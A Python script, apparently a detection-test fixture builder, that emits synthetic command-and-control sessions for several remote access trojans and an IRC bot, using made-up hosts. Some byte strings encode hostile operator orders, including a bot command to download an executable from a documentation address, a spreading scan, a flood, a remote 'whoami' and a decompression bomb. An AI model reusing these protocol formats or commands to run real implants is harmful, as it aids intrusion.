"""Builds a connection of a RAT from a description of its protocol, never from its code: rats.py FAMILY FILE

Always the same bytes. Hosts, users and settings are made up.
"""
import base64
import struct
import sys
import zlib

from segments import connection, write

IMPLANT, OPERATOR = True, False
PICTURE = bytes.fromhex("ffd8ffe000104a46494600010100000100010000") + bytes(range(256)) * 8 + bytes.fromhex("ffd9")
PORTS = (40000, 5552)


def b64(text):
    return base64.b64encode(text.encode()).decode()


def njrat():
    bar = "|'|'|"

    def said(*fields):
        body = bar.join(fields).encode() if not isinstance(fields[-1], bytes) else bar.join(fields[:-1]).encode() + bar.encode() + fields[-1]
        return b"%d\0" % len(body) + body

    login = ["ll", b64("Test_0A1B2C3D"), "VICTIM-PC", "alice", "26-09-21", "", "Win 10 Pro SP0 x64", "No", "im523", "..", b64("Inbox\0"), ""]
    settings = "\r\n".join(["Test", "c2.test:5552", "TEMP", "update.exe", "True", "False"])
    return [
        (0.1, IMPLANT, said(*login)),
        (0.2, IMPLANT, said("inf", b64(settings))),
        (0.3, OPERATOR, b"0\0"),
        (0.1, IMPLANT, b"0\0"),
        (5.0, IMPLANT, said("act", b64("Payroll.xlsx\0"))),
        (2.0, OPERATOR, said("CAP", "35", "23")),
        (0.2, IMPLANT, said("CAP", PICTURE)),
        (3.0, OPERATOR, said("proc")),
    ]


def strrat():
    def ping(window, idle):
        body = "|".join(["ping", "STRRAT", "0A1B", "VICTIM-PC", "alice", "Windows 10", "64-bit", "none", b64(window), "1.6", "US", "x", idle]).encode()
        return b"%d\r\n\r\n" % len(body) + body

    return [(0.1, IMPLANT, ping("Inbox", "0"))] + [(5.0, IMPLANT, ping("Payroll.xlsx", "%d" % n)) for n in range(3)]


def gh0st():
    def packed(plain, flag=b"Gh0st"):
        inside = zlib.compress(plain)
        return flag + struct.pack("<II", len(flag) + 8 + len(inside), len(plain)) + inside

    version = struct.pack("<IIIII", 0x9C, 6, 1, 7601, 2) + b"Service Pack 1".ljust(128, b"\0") + bytes(8)
    login = b"\x66\0\0\0" + version + b"VICTIM-PC".ljust(52, b"\0")
    return [
        (0.1, IMPLANT, packed(login)),
        (1.0, OPERATOR, packed(b"\x28")),
        (0.1, IMPLANT, packed(b"\x80")),
        (2.0, OPERATOR, packed(b"whoami\r\n")),
        (0.1, IMPLANT, packed(b"victim-pc\\alice\r\n")),
        (1.0, IMPLANT, packed(bytes(4 << 20))),  # a bomb
    ]


def meterpreter():
    def tlv(kind, value):
        return struct.pack(">II", 8 + len(value), kind) + value

    def packet(key, kind, tlvs, encrypted=0):
        plain = bytes(16) + struct.pack(">III", encrypted, len(tlvs) + 8, kind) + tlvs
        return key + bytes(octet ^ key[i % 4] for i, octet in enumerate(plain))

    string, uint, raw = 1 << 16, 1 << 17, 1 << 18
    request = tlv(string | 2, b"00000000000000000000000000000001\0")
    return [
        (0.1, OPERATOR, packet(b"\x11\x22\x33\x44", 0, tlv(string | 1, b"core_negotiate_tlv_encryption\0") + request + tlv(raw | 550, bytes(294)))),
        (0.2, IMPLANT, packet(b"\x5a\x01\xff\x80", 1, tlv(string | 1, b"core_negotiate_tlv_encryption\0") + request + tlv(raw | 553, bytes(256)) + tlv(uint | 4, bytes(4)))),
        (0.3, OPERATOR, packet(b"\x77\x22\x33\x44", 0, bytes(range(160)), 1)),
    ]


def remcos():
    def said(command, *fields):
        body = struct.pack("<I", command) + b"\x7c\x1e\x1e\x1f\x7c".join(field.encode() for field in fields)
        return b"\x24\x04\xff\x00" + struct.pack("<I", len(body)) + body

    return [(0.1, IMPLANT, said(0x4B, "Test", "VICTIM-PC/alice", "US", "Windows 10 Pro")), (5.0, OPERATOR, said(0x01)), (0.1, IMPLANT, said(0x01))]


def turkojan():
    return [
        (0.1, OPERATOR, b"ANABILGI|556\r\n"),
        (0.1, IMPLANT, b"ANABILGI|192.0.2.10|US|Test|NO|alice / VICTIM-PC|Windows XP|CPU|512|1.2|21.09.2026|\n"),
        (1.0, OPERATOR, b"BAGLIMI?\n"),
        (1.0, OPERATOR, b"CAPSCREEN60\n"),
        (0.1, IMPLANT, b"CAPSCREEN|C:\\screen.jpg|%d\n" % len(PICTURE) + PICTURE),
    ]


def ircbot():
    """rBot in a channel: login, a topic with an order, orders, answers; and a person who asks a harmless bot."""

    def server(text):
        return b":irc.test " + text.encode() + b"\r\n"

    def channel(by, text, place="#x"):
        return f":{by}!{by}@host.test PRIVMSG {place} :{text}\r\n".encode()

    def client(text):
        return text.encode() + b"\r\n"

    return [
        (0.1, IMPLANT, client("NICK [USA|XP|482211]") + client("USER kqzv 0 0 :kqzv")),
        (0.1, OPERATOR, server("001 [USA|XP|482211] :welcome") + server("422 [USA|XP|482211] :no motd")),
        (0.1, IMPLANT, client("JOIN #x key")),
        (0.1, OPERATOR, server("332 [USA|XP|482211] #x :.advscan asn1smb 100 5 0 -r -s")),
        (1.0, OPERATOR, channel("guest", "!seen alice")),
        (5.0, OPERATOR, channel("boss", ".download http://203.0.113.9/a.exe c:\\a.exe 1")),
        (1.0, IMPLANT, client("PRIVMSG #x :[DOWNLOAD]: Downloaded 12.0 KB to c:\\a.exe")),
        (5.0, OPERATOR, channel("boss", "!* UNKNOWN 203.0.113.80 60")),
        (1.0, OPERATOR, channel("boss", "well done")),
        (1.0, OPERATOR, channel("guest", "hello", "#other")),
    ]


def chisel():
    def frame(text, mask=b""):
        masked = bytes(octet ^ mask[i % 4] for i, octet in enumerate(text)) if mask else text
        return bytes([0x82, (0x80 if mask else 0) | len(text)]) + mask + masked

    asked = "GET / HTTP/1.1\r\nHost: c2.test:5552\r\nUser-Agent: Go-http-client/1.1\r\nConnection: Upgrade\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Protocol: chisel-v3\r\nSec-WebSocket-Version: 13\r\nUpgrade: websocket\r\n\r\n"
    granted = "HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Accept: s3pPLMBiTxaQ9kYGzzhZRbK+xOo=\r\nSec-WebSocket-Protocol: chisel-v3\r\n\r\n"
    return [
        (0.1, IMPLANT, asked.encode()),
        (0.1, OPERATOR, granted.encode()),
        (0.1, IMPLANT, frame(b"SSH-2.0-chisel-v3-client\r\n", b"\1\2\3\4")),
        (0.1, OPERATOR, frame(b"SSH-2.0-chisel-v3-server\r\n")),
        (0.1, IMPLANT, frame(bytes(range(100)), b"\5\6\7\x08")),
    ]


write(sys.argv[2], connection(PORTS, {"ircbot": ircbot, "chisel": chisel, "njrat": njrat, "strrat": strrat, "gh0st": gh0st, "meterpreter": meterpreter, "remcos": remcos, "turkojan": turkojan}[sys.argv[1]]()))
